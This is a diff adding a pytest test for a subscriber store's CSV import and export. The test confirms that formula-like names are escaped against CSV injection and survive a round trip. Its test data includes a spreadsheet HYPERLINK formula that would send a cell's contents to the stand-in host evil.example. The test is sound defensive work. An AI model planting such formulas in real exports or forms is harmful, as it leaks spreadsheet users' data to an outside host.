@@ -169,3 +169,41 @@ def test_remove(store: Store, tmp_path: Path) -> None:
     assert subs.remove("ana@example.com")
     assert not subs.remove("ana@example.com")
     assert subs.counts() == {"active": 1}
+
+
+def test_a_formula_like_name_is_exported_quoted_and_imported_back_as_it_was(
+    store: Store, tmp_path: Path
+) -> None:
+    """A name typed into the public form must not run as a spreadsheet formula in the
+    operator's export (CSV injection); importing the export gives the name back."""
+    subs = SubscriberStore(store)
+    hostile = '=HYPERLINK("https://evil.example/?"&A1,"x")'
+    path = tmp_path / "in.csv"
+    with path.open("w", newline="", encoding="utf-8") as handle:
+        writer = csv.writer(handle)
+        writer.writerow(["email", "name", "channels"])
+        writer.writerow(["ana@example.com", hostile, "world"])
+        writer.writerow(["bo@example.com", "@SUM(1+1)", "world"])
+    import_csv(
+        subs, path, known_channels=CHANNELS, default_channel=None, status="active", now=FixedClock()
+    )
+    rows = list(export_rows(subs))
+    names = {r["email"]: r["name"] for r in rows}
+    assert names == {"ana@example.com": "'" + hostile, "bo@example.com": "'@SUM(1+1)"}
+    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())
+    out = io.StringIO()
+    writer2 = csv.DictWriter(out, fieldnames=list(rows[0]))
+    writer2.writeheader()
+    writer2.writerows(rows)
+    (tmp_path / "back.csv").write_text(out.getvalue(), encoding="utf-8")
+    report = import_csv(
+        subs,
+        tmp_path / "back.csv",
+        known_channels=CHANNELS,
+        default_channel=None,
+        status="active",
+        now=FixedClock(),
+    )
+    assert report.errors == [] and (report.added, report.updated) == (0, 0)
+    found = subs.get("ana@example.com")
+    assert found is not None and found.name == hostile
